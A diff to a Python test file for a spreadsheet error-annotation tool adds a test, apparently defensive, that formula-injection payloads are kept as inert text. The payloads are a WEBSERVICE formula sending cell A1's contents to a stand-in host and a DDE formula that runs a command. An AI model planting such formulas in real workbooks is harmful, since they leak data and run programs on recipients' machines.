@@ -56,7 +56,7 @@ def test_list_of_what_to_mend_stands_in_front(scope):
             "G9",
             "cần sửa",
             "“mười hai” không phải số.",
-            "Chỉ ghi số, ví dụ 45,6; phần chữ ghi vào cột Ghi chú.",
+            "Chỉ ghi số, ví dụ 12; phần chữ ghi vào cột Ghi chú.",
         ],
     ]
 
@@ -98,3 +98,16 @@ def test_large_workbook_comes_back_as_a_plain_copy(scope, monkeypatch):
     assert book.sheetnames == ["Lỗi cần sửa", "Số liệu", "Hướng dẫn"]
     assert (sheet["E8"].value, sheet["E8"].fill.fgColor.rgb) == (132, "FFF8D7D4")
     assert "Tử số 132 lớn hơn mẫu số 98." in sheet["E8"].comment.text
+
+
+def test_formula_that_reaches_out_comes_back_as_the_text_that_it_is(scope):
+    content = filled(body_workbook(scope.report), BAD)
+    book = openpyxl.load_workbook(BytesIO(content))
+    formulas = ['=WEBSERVICE("http://vi-du.vn/"&A1)', "=cmd|'/c calc'!A0", '=HYPERLINK("http://vi-du.vn")']
+    for row, formula in enumerate([*formulas, "=SUM(E8,F8)"], start=40):
+        book["Số liệu"].cell(row, 8, formula)
+    content = cast.saved(book)
+    problem = Problem("Số liệu", "E8", "exceeds", "Tử số lớn hơn mẫu số.")
+    marked = openpyxl.load_workbook(BytesIO(annotated(content, "a.xlsx", scope, [problem])))["Số liệu"]
+    kept = [(marked.cell(row, 8).value, marked.cell(row, 8).data_type) for row in range(40, 44)]
+    assert kept == [*[(formula, "s") for formula in formulas], ("=SUM(E8,F8)", "f")]
